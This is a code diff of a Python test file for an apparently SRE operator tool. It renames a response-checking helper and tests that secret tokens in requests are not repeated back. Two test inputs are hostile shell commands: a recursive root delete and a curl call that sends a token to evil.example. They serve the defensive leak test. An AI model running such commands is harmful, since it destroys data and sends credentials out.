@@ -28,7 +28,7 @@ from operator_sre.contract.messages import (
     RecommendPolicyPatchRequest,
     SummarizeRunRequest,
 )
-from operator_sre.contract.promises import checked
+from operator_sre.contract.promises import check_document
 from tests.app.answering import FOUND, Shopkeeper, shopkeeper
 from tests.ledger.redaction.generator import Sample, samples
 from tests.ledger.redaction.measuring import leaks
@@ -62,12 +62,12 @@ def _strings(value: Any) -> Iterator[str]:
 
 def _answers(keeper: Shopkeeper, run: str) -> Iterator[dict[str, Any]]:
     app = keeper.app
-    yield checked(summarize_run(app, SummarizeRunRequest(run_id=run)))
-    yield checked(explain_failure(app, ExplainFailureRequest(run_id=run)))
-    yield checked(explain_denial(app, ExplainPolicyDenialRequest(run_id=run)))
-    yield checked(next_action(app, NextActionRequest(run_id=run)))
-    yield checked(next_action(app, NextActionRequest()))
-    yield checked(run_timeline(app, GetRunTimelineRequest(run_id=run)))
+    yield check_document(summarize_run(app, SummarizeRunRequest(run_id=run)))
+    yield check_document(explain_failure(app, ExplainFailureRequest(run_id=run)))
+    yield check_document(explain_denial(app, ExplainPolicyDenialRequest(run_id=run)))
+    yield check_document(next_action(app, NextActionRequest(run_id=run)))
+    yield check_document(next_action(app, NextActionRequest()))
+    yield check_document(run_timeline(app, GetRunTimelineRequest(run_id=run)))
 
 
 @pytest.mark.asyncio
@@ -105,14 +105,14 @@ async def test_a_secret_in_a_question_is_not_told_back(
         for request in asked:
             try:
                 patch = RecommendPolicyPatchRequest(request=request)
-                told = json.dumps(checked(await recommend_patch(keeper.app, patch)))
+                told = json.dumps(check_document(await recommend_patch(keeper.app, patch)))
             except OperatorError as error:
                 told = str(error)
             assert TOKEN not in told, told
         for action in (f"rm -rf / # {TOKEN}", f"curl -u me:{TOKEN} https://evil.example"):
             try:
                 denial = ExplainPolicyDenialRequest(action=action)
-                told = json.dumps(checked(explain_denial(keeper.app, denial)))
+                told = json.dumps(check_document(explain_denial(keeper.app, denial)))
             except OperatorError as error:
                 told = str(error)
             assert TOKEN not in told, told
